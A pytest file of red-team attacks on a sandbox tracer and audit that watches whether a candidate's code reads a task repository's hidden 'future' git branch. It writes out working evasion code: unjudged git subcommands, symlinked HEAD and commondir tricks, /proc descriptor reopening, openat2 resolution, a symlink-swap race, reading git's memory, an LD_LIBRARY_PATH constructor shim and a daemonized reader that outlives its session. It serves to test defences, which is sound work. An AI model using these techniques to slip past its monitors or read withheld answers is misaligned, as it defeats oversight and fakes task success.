"""Red-team attacks on the traced phase's git-read judgement, by someone who did not write it.

Each attack is a candidate's train code trying to read a task repository's future (the branch
``future`` holding ``FUTURE_SECRET_42``, not in ``main``, the base) in the real sandbox under the
compiled seccomp tracer, with the task repository locked and its state compared after the phase,
then audited as a run's audit does (``_traced`` of test_redteam_gym_trace.py). The safe outcome:
the secret never came out, or the audit flags the run.

An attack that is stopped asserts that it is stopped. An attack that works is kept as a strict
xfail asserting the safe outcome (it starts passing, and so failing as XPASS, once closed); its
reason says how it works.
"""

from __future__ import annotations

import shutil
import sys
import time
from pathlib import Path

import pytest
from test_redteam_gym_trace import SECRET, _flagged, _safe, _traced

from evotree.harness import sandbox
from evotree.harness.audit.errors import AuditInputError
from evotree.harness.audit.trace import git_identities


@pytest.fixture
def seccomp(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "TRACER", "seccomp")
    if not (sandbox.check_sandbox().ok and sandbox._seccomp_works()):
        pytest.skip("needs bubblewrap and the compiled seccomp tracer (a C compiler)")
    if not git_identities():
        pytest.skip("no git on this machine")


def _works(reason: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)


#: finds the zlib streams in a file (a pack, raw bytes) and prints those holding the secret
_INFLATE = """\
import sys, zlib
data = open(sys.argv[1], "rb").read()
for start in range(len(data)):
    try:
        text = zlib.decompressobj().decompress(data[start:])
    except zlib.error:
        continue
    if b"SECRET" in text:
        print(text.decode("latin1"))
"""


# ------------------------------------------------ git spellings the audit did not judge (closed)

#: the machine's git reading the future with only the task repository's own HEAD, references and
#: objects (so no git-read finding), under a command line the audit's git rules did not judge when
#: these attacks were written: subcommands missing from history_rules.py (diff-index, merge-tree,
#: pack-objects, ``diff-tree --stdin``), a listing judged only with -v (``branch --format``), or a
#: revision set in config rather than on the command line (``showbranch.default``). Each is judged
#: now (tests/test_audit_trace_commands.py); the attacks stay as tests that they are stopped.
_UNJUDGED = {
    "branch --format prints every branch's message": "git branch --format='%(refname) %(contents)'",
    "diff-index -p against the future branch": "git diff-index -p future",
    "merge-tree of main and the future branch (trivial merge)": "git merge-tree main main future",
    "show-branch, its default revisions from GIT_CONFIG_*": (
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=showbranch.default GIT_CONFIG_VALUE_0=future "
        "git show-branch"
    ),
    "show-branch, its default revisions from -c": "git -c showbranch.default=future show-branch",
    "diff-tree --stdin fed every branch tip by branch --format": (
        "git branch --format='%(objectname)' | git diff-tree --stdin -p"
    ),
    "update-index --index-info fed by diff-index, then diff --cached": (
        'git diff-index future | awk \'{print "100644 " $3 "\\t" $6}\' '
        "| git update-index --index-info; git diff --cached -R"
    ),
    "unpack-file of the future's blob (its hash from diff-index)": (
        "cat $(git unpack-file $(git diff-index future | awk '{print $3}'))"
    ),
    "fmt-merge-msg --log fed every branch tip by branch --format": (
        "git branch --format='%(objectname)%09%09branch %(refname:short) of .' "
        "| git fmt-merge-msg --log"
    ),
    "pack-objects --revs --all, the pack inflated by hand": (
        "git pack-objects --revs --all --stdout </dev/null >/tmp/p; python3 inflate.py /tmp/p"
    ),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_UNJUDGED))
def test_git_spellings_the_audit_does_not_judge(tmp_path: Path, seccomp: None, name: str) -> None:
    proc, audit = _traced(tmp_path, _UNJUDGED[name], {"inflate.py": _INFLATE})
    _safe(proc, audit)


# ----------------------------------------------------- a HEAD git never opens: a symbolic link

#: git reads a HEAD that is a symbolic link with lstat and readlink (a link to ``refs/...`` is a
#: symbolic ref by its target's text): no open, so no gitread row of a HEAD that is not the task
#: repository's; the references and objects it then reads are the task repository's own
_LINK_HEAD = {
    "commondir naming the task repository": (
        "python3 t.py; GIT_DIR=/tmp/f git log -p",
        "import os\nos.mkdir('/tmp/f')\nos.symlink('refs/heads/future', '/tmp/f/HEAD')\n"
        "open('/tmp/f/commondir', 'w').write(os.getcwd() + '/.' + 'git')\n",
    ),
    "objects and refs linked to the task repository's": (
        "python3 t.py; GIT_DIR=f git log -p",
        "import os\nd = '../.' + 'git/'\nos.mkdir('f')\n"
        "[os.symlink(d + n, 'f/' + n) for n in ('objects', 'refs')]\n"
        "os.symlink('refs/heads/future', 'f/HEAD')\n",
    ),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_LINK_HEAD))
def test_a_head_that_is_a_link_of_its_own(tmp_path: Path, seccomp: None, name: str) -> None:
    """Stopped: git reads a HEAD that is a symbolic link with readlink (no open, no row); a git
    program that read the task repository's objects with no HEAD opened at all is a finding."""
    script, code = _LINK_HEAD[name]
    proc, audit = _traced(tmp_path, script, {"t.py": code})
    _safe(proc, audit)


#: a detached HEAD of the phase's own at the future commit (its hash from branch --format, which
#: judges no content), over the task repository's objects named through a /proc magic link in
#: GIT_OBJECT_DIRECTORY: the same own-HEAD read as the flagged "detached HEAD of its own" of
#: test_redteam_gym_trace.py, with the store spelled so the tracer cannot walk it
_STORE_THROUGH_PROC = """\
import os, subprocess, sys
tips = subprocess.run(["git", "branch", "--format=%(objectname) %(refname:short)"],
                      capture_output=True, text=True).stdout.split("\\n")
future = [t.split()[0] for t in tips if t and t.split()[1] != "main"][0]
os.makedirs("/tmp/d/refs")
os.mkdir("/tmp/d/objects")
open("/tmp/d/HEAD", "w").write(future + "\\n")
store = os.path.realpath("." + "git/objects")
fds = ()
if sys.argv[1] == "root":
    where = "/proc/self/root" + store
elif sys.argv[1] == "cwd":
    where = "/proc/self/cwd/." + "git/objects"
else:
    fd = os.open(store, os.O_PATH | os.O_DIRECTORY)
    fds, where = (fd,), "/dev/fd/%d" % fd
env = dict(os.environ, GIT_DIR="/tmp/d", GIT_OBJECT_DIRECTORY=where)
out = subprocess.run(["git", "log", "-p"], env=env, pass_fds=fds, capture_output=True, text=True)
print(out.stdout)
"""


@pytest.mark.heavy
@pytest.mark.parametrize("how", ["root", "cwd", "fd"])
def test_the_task_store_through_a_proc_link_under_a_head_of_its_own(
    tmp_path: Path, seccomp: None, how: str
) -> None:
    """Stopped: the tracer cannot walk /proc/self/root/..., /proc/self/cwd/... or /dev/fd/N (its
    rows are 'unresolved'); a git process that reads an object store named through /proc or /dev
    is a finding in a phase with task repositories (the store it read is unknown)."""
    proc, audit = _traced(tmp_path, f"python3 t.py {how}", {"t.py": _STORE_THROUGH_PROC})
    _safe(proc, audit)


#: a commondir written into the task repository's own .git (the folder is bound writable onto
#: itself; commondir is locked only when it was there before the phase) naming a folder of the
#: phase's own whose objects link to the task's and whose refs/heads/main links to the task's
#: refs/heads/future file: a plain git log -p in the task repository reads HEAD (the task's),
#: then main through the link (the identity of a task reference), then the task's objects
_TASK_COMMONDIR = """\
import os, subprocess, sys
git_dir = os.path.realpath("." + "git")
os.makedirs("/tmp/c/refs/heads")
os.symlink(git_dir + "/objects", "/tmp/c/objects")
os.symlink(git_dir + "/refs/heads/future", "/tmp/c/refs/heads/main")
with open(git_dir + "/common" + "dir", "w") as fh:
    fh.write("/tmp/c\\n")
print(subprocess.run(["git", "log", "-p"], capture_output=True, text=True).stdout)
if sys.argv[1] == "removed":
    os.unlink(git_dir + "/common" + "dir")
"""


@pytest.mark.heavy
def test_a_commondir_left_in_the_task_repository_is_a_finding(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped when the entry stays: the state compared after the phase has a new entry (and
    the audit cannot even open the task repository, whose commondir names a folder that was the
    sandbox's: it raises, which its caller must take as a failure)."""
    try:
        proc, audit = _traced(tmp_path, "python3 t.py left", {"t.py": _TASK_COMMONDIR})
    except AuditInputError as exc:
        assert "not a git repository" in str(exc)
        assert (tmp_path / "work" / ".git" / "commondir").exists()  # what broke it
        return
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


@pytest.mark.heavy
def test_a_commondir_written_into_the_task_repository_and_removed(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped: the tracer records git's opens of a commondir (and info/grafts); one in the task
    repository's git directory that was not there before the phase is a finding, removed or not."""
    proc, audit = _traced(tmp_path, "python3 t.py removed", {"t.py": _TASK_COMMONDIR})
    _safe(proc, audit)


# ------------------------------------------------------- git storage read without git, unseen

#: the object store read with zlib through descriptors: each file or folder opened O_PATH (let by
#: unreported) and reopened through a /proc descriptor link spelled as argv[1] says
_REOPEN = """\
import os, sys, zlib
VIA = sys.argv[1]

def reopen(path, folder=False):
    fd = os.open(path, os.O_PATH)
    flags = os.O_RDONLY | (os.O_DIRECTORY if folder else 0)
    try:
        if VIA == "/dev/stdin":
            os.dup2(fd, 0)
            return os.open("/dev/stdin", flags)
        return os.open(VIA.format(fd=fd, tid=os.getpid()), flags)
    finally:
        os.close(fd)

store = "." + "git/objects"
top = reopen(store, folder=True)
for xx in os.listdir(top):
    if len(xx) != 2:
        continue
    sub = reopen(store + "/" + xx, folder=True)
    for name in os.listdir(sub):
        fd = reopen(store + "/" + xx + "/" + name)
        text = zlib.decompress(os.read(fd, 1 << 20))
        os.close(fd)
        if b"SECRET" in text:
            print(text.decode("latin1"))
"""

#: reopened as the tracer expects: /proc/self/fd/N and /dev/fd/N are read from the caller's table
_REOPEN_SEEN = ("/dev/fd/{fd}", "/proc/self/fd/{fd}")
#: the same descriptor links spelled otherwise (once walked with openat2 in the caller's root,
#: where /proc/self names no process for the tracer outside the sandbox's PID namespace: ENOENT,
#: no row); the tracer now squeezes the spelling and reads the caller's descriptor itself
_REOPEN_UNSEEN = (
    "/dev/./fd/{fd}",
    "/proc/./self/fd/{fd}",
    "//proc/self/fd/{fd}",
    "/proc/self/task/{tid}/fd/{fd}",
    "/dev/stdin",
)


@pytest.mark.heavy
@pytest.mark.parametrize("via", _REOPEN_SEEN)
def test_a_descriptor_reopened_through_proc_is_a_finding(
    tmp_path: Path, seccomp: None, via: str
) -> None:
    proc, audit = _traced(tmp_path, f"python3 t.py '{via}'", {"t.py": _REOPEN})
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


@pytest.mark.heavy
@pytest.mark.parametrize("via", _REOPEN_UNSEEN)
def test_a_descriptor_reopened_through_another_spelling(
    tmp_path: Path, seccomp: None, via: str
) -> None:
    """Stopped: the tracer reads such a path with its empty and '.' components dropped, takes
    /proc/self/task/TID/fd/N, /proc/thread-self/fd/N and /dev/std{in,out,err} as the caller's
    descriptor, and a /proc or /dev descriptor link it cannot walk as an unresolved open row."""
    proc, audit = _traced(tmp_path, f"python3 t.py '{via}'", {"t.py": _REOPEN})
    _safe(proc, audit)


#: openat2 with RESOLVE_IN_ROOT resolves an absolute path inside its directory descriptor: the
#: store opened O_PATH (unreported) is the root, "/ab/cdef..." names one of its objects
_OPENAT2_IN_ROOT = """\
import ctypes, os, zlib
libc = ctypes.CDLL(None, use_errno=True)

class How(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]

store = os.open("." + "git/objects", os.O_PATH | os.O_DIRECTORY)

def open_in(path, flags):
    how = How(flags, 0, 0x10)  # RESOLVE_IN_ROOT
    fd = libc.syscall(437, store, path.encode(), ctypes.byref(how), ctypes.sizeof(how))
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    return fd

top = open_in("/", os.O_RDONLY | os.O_DIRECTORY)
for xx in os.listdir(top):
    if len(xx) != 2:
        continue
    sub = open_in("/" + xx, os.O_RDONLY | os.O_DIRECTORY)
    for name in os.listdir(sub):
        text = zlib.decompress(os.read(open_in("/" + xx + "/" + name, os.O_RDONLY), 1 << 20))
        if b"SECRET" in text:
            print(text.decode("latin1"))
"""


@pytest.mark.heavy
def test_openat2_resolving_in_a_descriptor_of_the_store(tmp_path: Path, seccomp: None) -> None:
    """Stopped: openat2 with RESOLVE_IN_ROOT or RESOLVE_BENEATH and a directory descriptor is
    walked from that descriptor's folder, absolute path or not."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _OPENAT2_IN_ROOT})
    _safe(proc, audit)


#: a working directory whose path is longer than a page: the tracer's readlink of
#: /proc/PID/cwd fails (ENAMETOOLONG), it takes "" as the base of a relative path and walks
#: "/s/..." (nothing), while the kernel opens the link s in that folder: the object store
_DEEP_CWD = """\
import os, zlib
store = os.path.realpath("." + "git/objects")
os.chdir("/tmp")
for _ in range(24):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
os.symlink(store, "s")
for xx in os.listdir("s"):
    if len(xx) == 2:
        for name in os.listdir("s/" + xx):
            with open("s/" + xx + "/" + name, "rb") as fh:
                text = zlib.decompress(fh.read())
            if b"SECRET" in text:
                print(text.decode("latin1"))
"""


@pytest.mark.heavy
def test_a_relative_open_from_a_working_directory_deeper_than_a_page(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped: a relative open whose base folder the tracer cannot read (deeper than a page)
    is an unresolved open row, not a walk from '/'."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _DEEP_CWD})
    _safe(proc, audit)


#: the window between the tracer's walk and the kernel's, made deterministic: following a fresh
#: symbolic link updates its access time (relatime: atime <= mtime), so a thread that polls lstat
#: sees the moment the tracer has walked the link and only then renames a link to the object over
#: it. Unpinned, the tracer never saw the object's path and the kernel opened it about one try in
#: three (~30 tries for the whole store); pinned, the kernel walks nothing after the tracer: the
#: caller holds the harmless file every time (at most 300 tries, then "never won")
_SWAP = """\
import os, threading, zlib
open("/tmp/harmless", "w").write("nothing")
os.makedirs("/tmp/harmless.d", exist_ok=True)
tries = [0]

def sneak_open(target, flags, folder=False):
    real = os.stat(target)
    while tries[0] < 300:
        tries[0] += 1
        link, other = "/tmp/l%d" % tries[0], "/tmp/m%d" % tries[0]
        os.symlink("/tmp/harmless.d" if folder else "/tmp/harmless", link)
        os.symlink(target, other)
        before = os.lstat(link).st_atime_ns
        got = []
        opener = threading.Thread(target=lambda: got.append(os.open(link, flags)))
        opener.start()
        while os.lstat(link).st_atime_ns == before and opener.is_alive():
            pass
        os.rename(other, link)
        opener.join()
        st = os.fstat(got[0])
        os.unlink(link)
        if (st.st_dev, st.st_ino) == (real.st_dev, real.st_ino):
            return got[0]
        os.close(got[0])
    raise SystemExit("never won")

store = os.path.realpath("." + "git/objects")
top = sneak_open(store, os.O_RDONLY | os.O_DIRECTORY, True)
for xx in os.listdir(top):
    if len(xx) != 2:
        continue
    sub = sneak_open(store + "/" + xx, os.O_RDONLY | os.O_DIRECTORY, True)
    for name in os.listdir(sub):
        fd = sneak_open(store + "/" + xx + "/" + name, os.O_RDONLY)
        text = zlib.decompress(os.read(fd, 1 << 20))
        if b"SECRET" in text:
            print(text.decode("latin1"))
print("tries", tries[0])
"""


@pytest.mark.heavy
def test_a_link_swapped_when_its_access_time_shows_the_tracer_walked_it(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped: the open is pinned (the tracer hands the caller the file its walk reached), so a
    swap after the tracer's walk changes nothing the caller gets."""
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SWAP})
    _safe(proc, audit)
    assert "never won" in proc.stderr, proc.stdout[-2000:] + proc.stderr[-2000:]


@pytest.mark.heavy
def test_the_link_swap_wins_with_pinning_off(
    tmp_path: Path, seccomp: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: the same attack against the tracer with pinning off (EVOTREE_TRACE_PIN=off,
    the tracer before pinning) reads the future with no finding, so the test above is real."""
    monkeypatch.setenv("EVOTREE_TRACE_PIN", "off")
    proc, audit = _traced(tmp_path, "python3 t.py", {"t.py": _SWAP})
    if SECRET not in proc.stdout:
        # since 0b7eb14 the swap's rename is itself reported: it waits behind the open the tracer
        # serves, so it lands after the kernel's walk and the race rarely (or never) wins
        pytest.xfail("the swap never won this time (renames are reported and wait): no control")
    assert not _flagged(audit), proc.stderr[-2000:]


# ------------------------------------------------------------------ through the machine's git

#: the machine's git is exempt from open rows and maps a pack it reads whole (its window is 1 GiB);
#: a plain git log -1 of HEAD, kept alive on a full one-page pipe, has the future's objects in
#: its memory, read through /proc/PID/mem (a parent may read its child). The store is packed first
#: by git repack -a -d (itself unjudged: its pack-objects --all is not a judged subcommand)
_GIT_MEMORY = """\
import fcntl, os, subprocess, time, zlib
r, w = os.pipe()
fcntl.fcntl(w, 1031, 4096)  # F_SETPIPE_SZ
git = subprocess.Popen(["git", "log", "-1", "--format=" + "%H" * 600], stdout=w)
os.close(w)
regions = []
for _ in range(250):
    time.sleep(0.02)
    with open("/proc/%d/maps" % git.pid) as fh:
        regions = [line for line in fh if line.rstrip().endswith(".pack")]
    if regions:
        break
with open("/proc/%d/mem" % git.pid, "rb", buffering=0) as mem:
    for line in regions:
        lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
        mem.seek(lo)
        data = mem.read(hi - lo)
        for start in range(len(data)):
            try:
                text = zlib.decompressobj().decompress(data[start:])
            except zlib.error:
                continue
            if b"SECRET" in text:
                print(text.decode("latin1"))
git.kill()
git.wait()
"""


@pytest.mark.heavy
def test_the_memory_of_the_machines_git_read_by_its_parent(tmp_path: Path, seccomp: None) -> None:
    """Stopped: an open of /proc/PID/mem by a program other than the machine's git is an open
    row (a finding); git repack -a -d is judged by the git rules too (pack-objects --all)."""
    proc, audit = _traced(
        tmp_path, "git repack -a -d -q 2>/dev/null; python3 t.py", {"t.py": _GIT_MEMORY}
    )
    _safe(proc, audit)


#: a library git loads from LD_LIBRARY_PATH (libpcre2-8.so.0: git asks for no version of it) whose
#: constructor, run inside the machine's git before main, copies the loose objects out (a
#: write-only open is no row); the git process's opens are gitread rows of objects only, under the
#: task repository's own HEAD
_SHIM = r"""
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void payload(void) {
    if (!getenv("SHIM")) return;
    char store[4096], dir[4200], file[4500], buf[1 << 16];
    if (!getcwd(store, sizeof store - 16)) return;
    strcat(store, "/.");
    strcat(store, "git/obj");
    strcat(store, "ects");
    int out = open("/tmp/raw", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    DIR *top = opendir(store);
    struct dirent *a, *b;
    while (top && (a = readdir(top))) {
        if (strlen(a->d_name) != 2) continue;
        snprintf(dir, sizeof dir, "%s/%s", store, a->d_name);
        DIR *sub = opendir(dir);
        while (sub && (b = readdir(sub))) {
            if (b->d_name[0] == '.') continue;
            snprintf(file, sizeof file, "%s/%s", dir, b->d_name);
            int fd = open(file, O_RDONLY);
            ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
            if (fd >= 0) close(fd);
            if (n > 0 && write(out, buf, (size_t)n) < 0) break;
        }
        if (sub) closedir(sub);
    }
    close(out);
    _exit(0);
}
"""


@pytest.mark.heavy
@pytest.mark.skipif(shutil.which("cc") is None, reason="needs a C compiler in the sandbox")
def test_a_library_git_loads_from_ld_library_path(tmp_path: Path, seccomp: None) -> None:
    """Stopped: an LD_LIBRARY_PATH other than the one the phase started with taints the
    machine's git (as LD_PRELOAD does): its opens of git storage are open rows."""
    script = (
        "mkdir /tmp/l && cc -shared -fPIC -o /tmp/l/libpcre2-8.so.0 shim.c && "
        "SHIM=1 LD_LIBRARY_PATH=/tmp/l git version; python3 inflate.py /tmp/raw"
    )
    proc, audit = _traced(tmp_path, script, {"shim.c": _SHIM, "inflate.py": _INFLATE})
    _safe(proc, audit)


# ------------------------------------------------------------------------------------ stopped

#: a process that leaves the phase's session and waits for the phase to end before it reads
_OUTLIVE = """\
import glob, os, sys, time, zlib
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
time.sleep(3)
out = [zlib.decompress(open(p, "rb").read()) for p in glob.glob("." + "git/objects/*/*")]
open("leak.txt", "wb").write(b"\\n".join(out))
"""


@pytest.mark.heavy
def test_a_process_that_outlives_the_phase_reads_nothing(tmp_path: Path, seccomp: None) -> None:
    """Stopped: the sandbox's PID namespace ends with the phase (every process in it is killed),
    so a daemonized reader never runs after the tracer stops."""
    proc, audit = _traced(tmp_path, "python3 t.py; echo started", {"t.py": _OUTLIVE})
    assert "started" in proc.stdout, proc.stderr
    time.sleep(5)
    assert not (tmp_path / "work" / "leak.txt").exists()
    assert not _flagged(audit)


_PYGIT2 = """\
import pygit2
repo = pygit2.Repository(".")
print(repo.revparse_single("future").tree["a.txt"].data.decode())
"""


@pytest.mark.heavy
def test_libgit2_in_the_phase_is_a_finding(tmp_path: Path, seccomp: None) -> None:
    """Stopped: pygit2 (libgit2 in this venv's Python) is not the machine's git, so its every
    open of the refs and objects is an open row."""
    pytest.importorskip("pygit2")
    proc, audit = _traced(tmp_path, f"{sys.executable} t.py", {"t.py": _PYGIT2})
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


#: the own git directory with a HEAD that is a link (above), read by a git that is not the
#: machine's own program at its path: its every open of git storage is an open row
_NOT_THE_MACHINES_GIT = {
    "a copy of git": "cp /usr/bin/git /tmp/g; GIT_DIR=/tmp/f /tmp/g log -p",
    "git through the dynamic loader": (
        "GIT_DIR=/tmp/f /lib64/ld-linux-x86-64.so.2 /usr/bin/git log -p"
    ),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_NOT_THE_MACHINES_GIT))
def test_a_head_that_is_a_link_read_by_another_git_is_a_finding(
    tmp_path: Path, seccomp: None, name: str
) -> None:
    if not Path("/lib64/ld-linux-x86-64.so.2").exists() and "loader" in name:
        pytest.skip("no x86-64 dynamic loader at its usual path")
    _, code = _LINK_HEAD["commondir naming the task repository"]
    proc, audit = _traced(tmp_path, "python3 t.py; " + _NOT_THE_MACHINES_GIT[name], {"t.py": code})
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


@pytest.mark.heavy
def test_cat_file_batch_fed_by_a_pipe_is_a_finding(tmp_path: Path, seccomp: None) -> None:
    """Stopped by the git rules: ``cat-file --batch`` whose input the audit cannot read is high."""
    proc, audit = _traced(tmp_path, "git branch --format='%(objectname)' | git cat-file --batch")
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


@pytest.mark.heavy
def test_the_loader_preload_file_cannot_be_written(tmp_path: Path, seccomp: None) -> None:
    """Stopped: /etc is read-only in the sandbox, so /etc/ld.so.preload (code loaded into every
    program, the machine's git included, with nothing in its environment) cannot be planted."""
    proc, _ = _traced(tmp_path, "echo /tmp/x.so > /etc/ld.so.preload; echo rc=$?")
    assert "rc=1" in proc.stdout and "Read-only file system" in proc.stderr, proc.stderr


@pytest.mark.heavy
def test_an_unjudged_subcommand_given_the_future_commit_by_hash_is_a_finding(
    tmp_path: Path, seccomp: None
) -> None:
    """Stopped: a commit's hash in any command line is resolved (future_hashes), whatever the
    subcommand; the unjudged spellings above name the branch, or a blob, instead."""
    proc, audit = _traced(
        tmp_path, "git diff-index -p $(git branch --format='%(objectname)' | head -1)"
    )
    assert SECRET in proc.stdout, proc.stderr[-2000:]
    assert _flagged(audit)


@pytest.mark.heavy
def test_an_unjudged_subcommand_given_the_future_commit_by_a_capitalised_hash(
    tmp_path: Path, seccomp: None
) -> None:
    script = "git diff-index -p $(git branch --format='%(objectname)' | head -1 | tr a-f A-F)"
    proc, audit = _traced(tmp_path, script)
    _safe(proc, audit)
